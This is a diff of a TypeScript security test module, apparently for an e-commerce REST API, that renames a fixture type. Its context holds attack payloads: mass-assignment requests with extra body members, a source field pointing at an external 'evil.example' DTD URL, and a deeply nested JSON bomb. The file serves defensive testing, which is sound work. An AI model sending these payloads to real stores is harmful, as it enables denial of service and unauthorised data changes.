@@ -1,6 +1,6 @@
 /** M1: calls that shoppers make, with extra members in the body. */
 import { gatewayBodyOf } from '../../testbed/gateway-bodies.ts';
-import { type Attack, type AttackKind, direct, type Field } from '../attack.ts';
+import { type Attack, type AttackFixtures, type AttackKind, direct } from '../attack.ts';
 import { KNOWN_BODIES } from '../known-bodies.ts';
 
 const JSON_TYPE = { 'Content-Type': 'application/json' };
@@ -15,7 +15,7 @@ function inBasket(
   name: string,
   { method, path, body, member }: Omit<(typeof KNOWN_BODIES)[number], 'name'>,
 ): Attack {
-  const send = ({ target, open }: Field) =>
+  const send = ({ target, open }: AttackFixtures) =>
     target.call(`/rest/V1/guest-carts/${open.basket.mask}${path}`, {
       method,
       headers: JSON_TYPE,
@@ -32,7 +32,7 @@ function added(name: string, method: string, path: string, [member, value]: [str
     parent === ''
       ? { ...honest, [own]: value }
       : { ...honest, [parent]: { ...(honest[parent] as object), [own]: value } };
-  const send = ({ target: { call, customers } }: Field) =>
+  const send = ({ target: { call, customers } }: AttackFixtures) =>
     call(path, {
       method,
       headers: { ...JSON_TYPE, Authorization: `Bearer ${customers.own.token}` },
@@ -47,7 +47,7 @@ const SOURCE = { sourceData: { data: 'https://evil.example/x.dtd', dataIsURL: tr
 const BOMB = `{"customer":${'['.repeat(127_000)}${']'.repeat(127_000)}}`;
 
 function bomb(name: string, status: number, says: string, isSignedIn: boolean): Attack {
-  const send = ({ target: { call, customers } }: Field) => {
+  const send = ({ target: { call, customers } }: AttackFixtures) => {
     const own = isSignedIn ? { Authorization: `Bearer ${customers.own.token}` } : {};
     return call(ME, { method: 'PUT', headers: { ...JSON_TYPE, ...own }, body: BOMB });
   };
